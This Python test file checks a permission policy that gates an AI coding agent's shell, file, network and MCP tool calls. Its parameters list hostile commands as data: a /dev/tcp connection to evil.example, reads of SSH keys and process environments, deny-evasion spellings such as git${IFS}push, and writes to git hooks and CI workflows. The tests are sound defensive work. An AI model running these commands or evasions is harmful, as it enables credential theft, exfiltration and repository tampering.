"""The user's policy over the permission mode: rows, rules, presets; a deny wins, no allow is wider than its words."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError
from starlette.testclient import TestClient

from maestro.agents.base import PermissionMode
from maestro.agents.gates import Verdict, judge
from maestro.api.site import build_site
from maestro.confinement.proxy import hosts
from maestro.core.kernel.agent_config import in_force
from maestro.core.kernel.runtime import Runtime, open_runtime
from maestro.core.workspaces import policy_hosts
from maestro.db import models
from maestro.policy import PRESETS, Policy, merged
from maestro.settings import LoadedSettings, Settings
from tests.repos import make_repo


@pytest.fixture
def worktree(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "home"
    for folder in (home / "notes", home / ".ssh", home / "data"):
        folder.mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    root = tmp_path / "wt"
    for name in ("src/a.py", "build/out.txt", "deep/.github/workflows/ci.yml", ".envrc"):
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text("x\n")
    return root.resolve()


def _bash(
    policy: str, command: str, worktree: Path, mode: PermissionMode = "edits", checks: tuple[str, ...] = ()
) -> Verdict:
    return judge(mode, "Bash", {"command": command}, worktree, checks, policy=Policy.model_validate(policy))


def _use(policy: str, tool: str, worktree: Path, mode: PermissionMode = "edits", **given: Any) -> str:
    home = Path.home()
    table = Policy.model_validate(policy)
    return judge(mode, tool, given, worktree, policy=table, private=[home / "data"]).action


# -- rows ----------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("policy", "tool", "given", "action"),
    [
        ("ask edit_inside", "Write", {"file_path": "src/a.py"}, "ask"),
        ("deny edit_inside", "Write", {"file_path": "src/a.py"}, "deny"),
        ("allow edit_inside", "Write", {"file_path": ".envrc"}, "ask"),
        ("allow edit_inside", "Write", {"file_path": ".github/workflows/ci.yml"}, "ask"),
        ("allow edit_inside", "Write", {"file_path": ".git/config"}, "ask"),
        ("deny edit_inside", "Write", {"file_path": ".envrc"}, "deny"),
        ("allow edit_outside", "Write", {"file_path": "~/notes/x.txt"}, "allow"),
        ("allow edit_outside", "Write", {"file_path": "~/.bashrc"}, "ask"),
        ("allow edit_outside", "Write", {"file_path": "~/notes/.envrc"}, "ask"),
        ("allow edit_outside", "Write", {"file_path": "/etc/passwd"}, "ask"),
        ("allow edit_outside", "Write", {"file_path": "~/data/maestro.db"}, "ask"),
        ("deny edit_outside", "Write", {"file_path": "~/notes/x.txt"}, "deny"),
        ("allow read_outside", "Read", {"file_path": "~/notes/x.txt"}, "allow"),
        ("allow read_outside", "Read", {"file_path": "~/.ssh/id_rsa"}, "ask"),
        ("allow read_outside", "Read", {"file_path": "~/data/token"}, "ask"),
        ("allow read_outside", "Read", {"file_path": "/proc/self/environ"}, "ask"),
        ("deny read_outside", "Read", {"file_path": "~/notes/x.txt"}, "deny"),
        ("deny read_outside", "Read", {"file_path": "src/a.py"}, "allow"),
        ("allow mcp", "mcp__github__get_issue", {}, "allow"),
        ("allow mcp github:get_*", "mcp__github__get_issue", {}, "allow"),
        ("allow mcp github:get_*", "mcp__github__delete", {}, "ask"),
        ("allow mcp github:*", "mcp__github__x__get", {}, "ask"),
        ("allow mcp git:*", "mcp__github__get", {}, "ask"),
        ("allow mcp; deny mcp github:delete*", "mcp__github__delete_repo", {}, "deny"),
        ("deny mcp", "mcp__maestro__report_progress", {}, "allow"),
        ("deny mcp", "mcp__maestro__other", {}, "deny"),
        ("allow mcp", "Unknown", {}, "ask"),
        ("allow network example.org", "WebFetch", {"url": "https://example.org/x"}, "allow"),
        ("allow network example.org", "WebFetch", {"url": "https://example.org:8443/x"}, "ask"),
        ("allow network example.org:8443", "WebFetch", {"url": "https://example.org:8443/x"}, "allow"),
        ("allow network example.org", "WebFetch", {"url": "https://example.org@evil.example/"}, "ask"),
        ("allow network example.org", "WebFetch", {"url": "https://example.org.evil.example/"}, "ask"),
        ("allow network *.example.org", "WebFetch", {"url": "https://a.example.org/"}, "allow"),
        ("allow network *.example.org", "WebFetch", {"url": "https://evilexample.org/"}, "ask"),
        ("allow network", "WebFetch", {"url": "https://a\\b.example/"}, "ask"),
        ("allow network example.org", "SandboxNetworkAccess", {"host": "example.org"}, "ask"),
        ("allow network example.org", "SandboxNetworkAccess", {"host": "example.org", "port": 443}, "allow"),
        ("allow network example.org", "SandboxNetworkAccess", {"host": "example.org", "port": 22}, "ask"),
        ("deny network example.org", "SandboxNetworkAccess", {"host": "EXAMPLE.org."}, "deny"),
        ("allow network; deny network *.evil.example", "WebFetch", {"url": "https://x.evil.example/"}, "deny"),
        ("deny network", "WebSearch", {"query": "x"}, "deny"),
    ],
)
def test_a_row_answers_for_what_its_words_say(
    worktree: Path, policy: str, tool: str, given: dict[str, Any], action: str
) -> None:
    given = {key: str(Path(v).expanduser()) if str(v).startswith("~") else v for key, v in given.items()}
    if "file_path" in given and not given["file_path"].startswith("/"):
        given["file_path"] = str(worktree / given["file_path"])
    assert _use(policy, tool, worktree, **given) == action


@pytest.mark.parametrize(
    ("policy", "command", "action"),
    [
        ("allow install", "npm install left-pad", "allow"),
        ("allow install", "cd src && pip install -q requests==2.1", "allow"),
        ("allow install", "npm install left-pad && pytest -q", "allow"),
        ("allow install", "npm install left-pad && ./evil", "ask"),
        ("allow install", "npm install --prefix /usr x", "ask"),
        ("allow install", "npm install ../outside", "ask"),
        ("allow install", "npm install https://evil.example/x.tgz", "ask"),
        ("allow install", "npm install evil/repo", "ask"),
        ("allow install", "npm install a@npm:b", "ask"),
        ("allow install", "npm install x --registry=https://evil.example", "ask"),
        ("allow install", "pip install --index-url https://evil.example x", "ask"),
        ("allow install", "pip install -r ../outside.txt", "ask"),
        ("allow install", "pip install 'x @ https://evil.example/x.zip'", "ask"),
        ("allow install", "pip install .", "ask"),
        ("allow install", "PIP_INDEX_URL=https://evil.example pip install x", "ask"),
        ("allow install", "npx evil", "ask"),
        ("allow install", "npm install x > ~/.bashrc", "ask"),
        ("allow install", "cd .. && npm install x", "ask"),
        ("allow push", "git push -u origin feature/x", "allow"),
        ("allow push", "git push", "allow"),
        ("allow push", "git push --force origin x", "ask"),
        ("allow push", "git push origin +x", "ask"),
        ("allow push", "git push origin :x", "ask"),
        ("allow push", "git push https://evil.example/x x", "ask"),
        ("allow push", "git -c core.sshCommand=x push", "ask"),
        ("allow push", "git push --receive-pack=x origin x", "ask"),
        ("allow push", "npm publish", "ask"),
        ("allow delete", "rm -rf build", "allow"),
        ("allow delete", "rm src/a.py build/out.txt", "allow"),
        ("allow delete", "rm -rf .", "ask"),
        ("allow delete", "rm -rf ../outside", "ask"),
        ("allow delete", "rm -rf deep", "ask"),
        ("allow delete", "rm .envrc", "ask"),
        ("allow delete", "rm -rf *", "ask"),
        ("allow delete", "rm -rf .git", "ask"),
        ("allow delete", "cd src && rm -rf ../", "ask"),
        ("allow delete", "find . -delete", "ask"),
        ("allow command frob src/*", "frob src/a.py", "allow"),
        ("allow command frob src/*", "frob src/../../outside", "ask"),
        ("allow command frob src/*", "frob src/a.py -o x", "ask"),
        ("allow command frob src/*", "frob src/a.py && evil", "ask"),
        ("allow command frob src/*", "frob src/a.py > ~/.x", "ask"),
        ("allow command frob *", "frob src/a.py build/out.txt", "allow"),
        ("allow command frob *", "frob --exec=sh", "ask"),
        ("allow command frob *", "frob .envrc", "ask"),
        ("allow command frob *", "frob ~/.ssh/id_rsa", "ask"),
        ("allow command frob *", "frob $(id)", "ask"),
        ("allow command frob *", "LD_PRELOAD=x frob src/a.py", "ask"),
        ("allow command make deploy", "make deploy", "allow"),
        ("allow command make deploy", "make deploy SHELL=/tmp/x", "ask"),
        ("allow command make deploy", "make deploy && make deploy", "allow"),
        ("allow command make deploy", "cd .. && make deploy", "ask"),
        ("allow command make deploy", "cd src && make deploy", "ask"),
        ("allow command cat x | sh", "cat x | sh", "allow"),
        ("allow command cp a .envrc", "cp a .envrc", "ask"),
        ("allow command", "python evil.py", "ask"),
        ("ask install", "ls src", "allow"),
    ],
)
def test_an_allow_is_never_wider_than_its_words(worktree: Path, policy: str, command: str, action: str) -> None:
    assert _bash(policy, command, worktree).action == action


@pytest.mark.parametrize("mode", ["edits", "sandboxed", "bypass", "ask"])
@pytest.mark.parametrize(
    ("policy", "command"),
    [
        ("deny push", "git push"),
        ("deny push", "git -C . -c a=b push"),
        ("deny push", "/usr/bin/git push"),
        ("deny push", "sh -c 'git push'"),
        ("deny push", "env git 'push'"),
        ("deny push", 'g"i"t pu\\sh'),
        ("deny push", "git${IFS}push"),
        ("deny push", "git \\\n push"),
        ("deny push", "ls; git push"),
        ("deny push", "npm publish"),
        ("deny push", "twine upload dist/*"),
        ("deny install", "pip install x"),
        ("deny install", "python3 -m pip install x"),
        ("deny install", "npm --prefix x ci"),
        ("deny install", "npx left-pad"),
        ("deny install", "yarn"),
        ("deny install", "sudo apt-get install -y x"),
        ("deny delete", "rm -rf build"),
        ("deny delete", "find . -name x -delete"),
        ("deny delete", "git clean -fdx"),
        ("deny delete", "xargs rm < list"),
        ("deny delete", "python3 -c 'import shutil; shutil.rmtree(1)'"),
        ("deny network", "curl https://example.org"),
        ("deny network", "git clone x"),
        ("deny network", "exec 3<>/dev/tcp/evil.example/80"),
        ("deny read_outside", "cat ~/notes/x"),
        ("deny read_outside", "cd src && grep x ../../home/notes/x"),
        ("deny edit_outside", "cp src/a.py ~/notes/x"),
        ("deny edit_outside", "cat src/a.py $x > ~/.bashrc"),
        ("deny push", "echo " + "x" * 30_000 + " $x"),
        ("deny network evil.example", "python3 -c 'open(\"https://evil.example\")'"),
        ("deny network *.evil.example", "wget http://a.evil.example/x"),
        ("deny command docker run *", "docker --host x run --rm y"),
        ("deny command docker run", "nice docker run y"),
        ("deny command terraform *", "cd x; terraform apply"),
        ("allow command make deploy; deny command make *", "make deploy"),
        ("allow install; deny command npm *", "npm install left-pad"),
    ],
)
def test_a_deny_takes_every_spelling_in_every_mode(
    worktree: Path, mode: PermissionMode, policy: str, command: str
) -> None:
    verdict = _bash(policy, command, worktree, mode)
    assert verdict.action == "deny"
    assert "policy" in verdict.reason


@pytest.mark.parametrize(
    "policy", ["deny push; deny install; deny delete; deny command git push; deny edit_outside; deny read_outside"]
)
@pytest.mark.parametrize(
    "command", ["grep -rn 'git push' src", "git commit -m 'no git push'", "echo npm install", "ls"]
)
def test_words_about_an_action_are_not_the_action(worktree: Path, policy: str, command: str) -> None:
    assert _bash(policy, command, worktree, "sandboxed").action == "allow"


def test_an_ask_is_asked_in_the_sandbox_and_holds_over_an_allow(worktree: Path) -> None:
    assert _bash("ask push", "git push", worktree, "sandboxed").action == "ask"
    assert _bash("allow push; ask command git *", "git push", worktree).action == "ask"
    assert _bash("ask command", "pytest -q", worktree).action == "ask"
    assert _bash("ask command", "pytest -q", worktree, checks=("pytest -q",)).action == "allow"
    assert _bash("ask command", "git push", worktree, "bypass").action == "allow"


def test_allow_for_this_session_answers_an_ask_but_no_deny(worktree: Path) -> None:
    asked = _bash("ask push", "git push", worktree)
    for policy, action in (("ask push", "allow"), ("deny push", "deny")):
        table = Policy.model_validate(policy)
        given = {"command": "git push"}
        assert judge("edits", "Bash", given, worktree, (), [asked.signature], policy=table).action == action


def test_nothing_lifts_what_a_mode_denies_or_lets_a_command_leave_the_sandbox(worktree: Path) -> None:
    assert _use("allow edit_outside", "Write", worktree, "sandboxed", file_path="/tmp/x/y") == "deny"
    given = {"command": "make deploy", "dangerouslyDisableSandbox": True}
    table = Policy.model_validate("allow command make deploy; allow command")
    assert judge("sandboxed", "Bash", given, worktree, policy=table).action == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "echo x > .envrc",
        "tee .husky/pre-commit",
        "cp a .gitattributes",
        "sed -i s/a/b/ .github/workflows/ci.yml",
        "cat > .vscode/settings.json <<E\nx\nE",
        "mv a .npmrc",
        "printf x >> .git/config",
        "prettier --write .devcontainer/devcontainer.json",
        "echo x > .en'vr'c",
        "touch .claude/settings.json",
        "mkdir .husky",
        "rm .gitmodules",
    ],
)
@pytest.mark.parametrize("mode", ["edits", "sandboxed"])
def test_what_tools_and_git_obey_is_never_a_free_edit(worktree: Path, mode: PermissionMode, command: str) -> None:
    assert _bash("allow edit_inside; allow command; allow delete", command, worktree, mode).action == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "find . -type f \\( -name a -o -name b \\) -not -path './.git/*' | xargs wc -l",
        "for f in $(git ls-files .github); do echo $f; done",
        "tar --exclude=.git -czf /tmp/x.tgz .",
        "rsync -a --exclude .git --exclude .vscode src/ /tmp/y/",
        "cat .npmrc .github/workflows/*.yml 2>/dev/null; ls -la .claude",
        "git add .github/workflows && git commit -m 'Change .github/workflows/ci.yml'",
        "cat > NOTES.md <<'E'\nSee .github/workflows/ci.yml and .envrc.\nE",
        "test -f .envrc && echo yes > found",
        "git diff HEAD -- .gitattributes > /tmp/diff",
        "if [ -d .husky ]; then ls .husky; fi",
        "python3 build.py && node x.js",
        "cd .github/workflows && ls -la; cat *.yml | head",
        "cp -r src/.* out/; rm -rf .*cache .coverage*",
        "for f in *.py; do { wc -l $f; }; done; echo {a,b}",
        "tar czf x.tgz --exclude=.git* . ; ls .git*",
        "cat .env* .pre-commit* 2>/dev/null | wc -l",
    ],
)
def test_what_only_names_settings_is_free_in_the_sandbox(worktree: Path, command: str) -> None:
    assert _bash("sandbox", command, worktree, "sandboxed").action == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "echo $x > .envrc",
        "python3 - <<E\nopen('.envrc', 'w')\nE",
        'python3 -c \'find = ".npmrc"; open(find, "w")\'',
        "node -e 'fs.writeFileSync(\".github/workflows/x.yml\", 1)'",
        "for f in a; do cp $f .husky/pre-commit; done",
        "cat $x | tee -a .vscode/tasks.json",
        "sed -i $x .devcontainer/devcontainer.json",
        "find . -name x -exec cp {} .claude/ \\;",
        "git checkout $x -- .gitattributes",
        "git mv $x .gitmodules",
        "rm -rf $x .git",
        "ln -sf $x .git/hooks/pre-commit",
        "printf x>>.GitHub/Workflows/ci.yml;$x",
        "cat > .envrc <<E\nx\nE",
        "install -m 755 $x .husky/pre-push",
        "cp a .vs*/tasks.json",
        "cp a .h?sky/pre-commit",
        "echo x > .v[s]code/tasks.json",
        "echo x > .en{v,}rc",
        "cp a .git{attributes,x}",
        "cd .vscode && echo x > tasks.json",
        "cd .github/workflows && echo x > ci.yml",
        "(cd .husky; cp ../a pre-commit)",
    ],
)
def test_what_writes_settings_asks_in_the_sandbox(worktree: Path, command: str) -> None:
    assert _bash("sandbox", command, worktree, "sandboxed").action == "ask"


@pytest.mark.parametrize(
    ("policy", "reached"),
    [
        ("", ["pypi.org:443", "pypi.org:80"]),
        ("deny network pypi.org", []),
        ("deny network pypi.org:80; allow network a.example:8443", ["a.example:8443", "pypi.org:443"]),
        ("allow network a.example; deny network *.example", ["pypi.org:443", "pypi.org:80"]),
        ("allow network *.example; ask network", ["pypi.org:443", "pypi.org:80"]),
        ("allow network a.example:99999; allow network", ["pypi.org:443", "pypi.org:80"]),
        ("deny network; allow network a.example", []),
    ],
)
def test_the_sandbox_reaches_the_hosts_that_the_policy_leaves(policy: str, reached: list[str]) -> None:
    found = policy_hosts.under(Policy.model_validate(policy), hosts(["pypi.org"]))
    assert sorted(map(str, found)) == reached


# -- the table -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "wrong",
    [
        "allow command python *",
        "allow command git *",
        "allow command npm run *",
        "allow command sh -c *",
        "allow command make *",
        "allow command python3.12 *",
        "allow command * x",
        "allow command /usr/bin/x *",
        "allow command x > *",
        "allow command x $(y) *",
        "allow network http://x/",
        "allow network a b",
        "allow network \u0430pple.example",
        "allow command x\u202e",
        "deny pushing",
        "careful!",
        {"preset": "wild"},
        {"rows": {}},
        {"push": "maybe"},
        {"rules": [{"row": "push", "match": "x", "answer": "deny"}]},
    ],
)
def test_a_table_that_cannot_be_held_is_refused(wrong: object) -> None:
    with pytest.raises(ValidationError):
        Policy.model_validate(wrong)


@pytest.mark.parametrize("name", PRESETS)
def test_presets_are_rows_and_are_known_again(name: str) -> None:
    by_text, by_name = Policy.model_validate(name), Policy.model_validate({"preset": name})
    assert by_text == by_name
    assert by_text.preset() == name
    assert Policy.model_validate(by_text.plain()) == by_text
    assert Policy.model_validate("\n".join(by_text.lines())) == by_text
    assert Policy.model_validate(f"{name}; deny network x.example").preset() == name
    assert Policy.model_validate(f"{name}; allow push").push == "allow"


def test_presets_in_everyday_work(worktree: Path) -> None:
    def action(name: str, command: str, mode: PermissionMode = "edits") -> str:
        return _bash(name, command, worktree, mode).action

    assert [action(p, "git push") for p in PRESETS] == ["deny", "ask", "ask"]
    assert [action(p, "pytest -q") for p in PRESETS] == ["ask", "allow", "allow"]
    assert action("sandbox", "python3 x.py", "sandboxed") == "allow"
    assert action("sandbox", "npm install x && rm -rf build", "sandboxed") == "allow"
    assert action("sandbox", "python3 x.py") == "ask"


def test_a_sessions_rows_go_first_but_lift_no_deny() -> None:
    ours = Policy.model_validate("deny push; ask install; allow network a.example")
    own = Policy.model_validate("allow push; allow install; deny network b.example")
    both = merged(ours, own)
    assert (both.push, both.install) == ("deny", "allow")
    assert [rule.match for rule in both.rules] == ["a.example", "b.example"]
    config = in_force({"policy": {"push": "allow", "delete": "deny"}}, Settings(policy=ours))
    assert config.policy is not None
    assert (config.policy.push, config.policy.delete, config.policy.install) == ("deny", "deny", "ask")


def test_the_table_comes_from_the_environment_too_but_never_from_a_dotenv(tmp_path: Path) -> None:
    loaded = LoadedSettings(environment={"MAESTRO_POLICY": "balanced; deny push"})
    assert (loaded.current.policy.push, loaded.current.policy.install) == ("deny", "ask")
    (tmp_path / ".env").write_text("MAESTRO_POLICY='allow push'\n")
    assert LoadedSettings(environment={}, dotenv=tmp_path / ".env").current.policy.says_nothing()


# -- REST, and what is proposed ------------------------------------------------------------------------------------------


@pytest.fixture
def rt(tmp_path: Path) -> Iterator[Runtime]:
    runtime = open_runtime(LoadedSettings({"data_dir": tmp_path / "data", "assistant": "demo"}, environment={}))
    yield runtime
    runtime.jobs.stop()
    runtime.db.close()


@pytest.fixture
def api(rt: Runtime) -> Iterator[TestClient]:
    with TestClient(build_site(rt), base_url="http://localhost") as client:
        yield client


def _stored(api: TestClient) -> dict[str, Any]:
    found: dict[str, Any] = next(s for s in api.get("/api/settings").json()["items"] if s["name"] == "policy")["value"]
    return found


def test_settings_and_sessions_keep_a_table_and_give_it_back(api: TestClient, tmp_path: Path) -> None:
    answer = api.put("/api/settings", json={"policy": {"preset": "balanced", "push": "deny"}})
    assert answer.status_code == 200, answer.text
    kept = _stored(api)
    assert (kept["preset"], kept["push"], kept["install"]) == (None, "deny", "ask")
    assert api.put("/api/settings", json={"policy": kept}).status_code == 200
    wrong = api.put("/api/settings", json={"policy": "allow command python *"})
    assert wrong.status_code == 422
    assert "python runs whatever it is given" in wrong.text

    repo = make_repo(tmp_path / "repo", {"a.txt": "a"})
    given = {"repo_path": str(repo), "agent_config": {"policy": "deny install; allow network a.example"}}
    made = api.post("/api/sessions", json=given)
    assert made.status_code == 201, made.text
    assert made.json()["agent_config"]["policy"] == {
        "install": "deny", "rules": [{"row": "network", "match": "a.example", "answer": "allow"}],
    }  # fmt: skip
    assert api.post("/api/sessions", json=given | {"agent_config": {"policy": "x"}}).status_code == 422
    assert api.put("/api/settings", json={"policy": None}).status_code == 200
    assert _stored(api)["push"] is None


def _ask(rt: Runtime, repo: Path, number: int, **given: Any) -> str:
    session = models.Session(
        id=f"s{number}",
        title="x",
        repo_path=str(repo),
        base_branch="main",
        base_commit="0" * 40,
        session_branch=f"m{number}",
    )
    tool = given.pop("tool")
    asked = models.Approval(session_id=session.id, kind="tool", title="x", detail={"tool": tool, **given})
    asked.signature = judge("ask", tool, given, repo).signature
    with rt.db.write() as tx:
        tx.db.add(session)
        tx.db.flush()
        tx.db.add(asked)
        return asked.id


@pytest.mark.parametrize(
    ("given", "decision", "line"),
    [
        (
            {"tool": "SandboxNetworkAccess", "host": "example.org", "port": 443},
            "allow",
            "allow network example.org:443",
        ),
        ({"tool": "mcp__github__get_issue", "input": {"n": 1}}, "allow", "allow mcp github:get_issue"),
        ({"tool": "Bash", "command": "npm install x"}, "allow", "allow install"),
        ({"tool": "Bash", "command": "make deploy"}, "allow_session", "allow command make deploy"),
        ({"tool": "Bash", "command": "make deploy"}, "deny", "deny command make deploy"),
    ],
)
def test_after_three_answers_alike_the_rule_is_proposed_once(
    rt: Runtime, api: TestClient, tmp_path: Path, given: dict[str, Any], decision: str, line: str
) -> None:
    ids = [_ask(rt, tmp_path, number, **given) for number in range(5)]
    said = [api.post(f"/api/approvals/{one}", json={"decision": decision}).json()["proposal"] for one in ids]
    assert said == [None, None, line, None, None]
    assert api.post(f"/api/approvals/{ids[0]}/always").status_code == 409
    taken = api.post(f"/api/approvals/{ids[2]}/always")
    assert taken.status_code == 200, taken.text
    assert line in Policy.model_validate(_stored(api)).lines()


@pytest.mark.parametrize(
    "given",
    [
        {"tool": "Bash", "command": "rm -rf *"},
        {"tool": "Bash", "command": "echo x\nrm y"},
        {"tool": "Write", "file_path": "/etc/x", "content": "x"},
        {"tool": "Read", "file_path": "/root/.ssh/id_rsa"},
        {"tool": "Unknown", "x": 1},
    ],
)
def test_nothing_is_proposed_that_would_be_wider_than_the_answers(
    rt: Runtime, api: TestClient, tmp_path: Path, given: dict[str, Any]
) -> None:
    ids = [_ask(rt, tmp_path, number, **given) for number in range(4)]
    assert [api.post(f"/api/approvals/{one}", json={"decision": "allow"}).json()["proposal"] for one in ids] == [
        None
    ] * 4
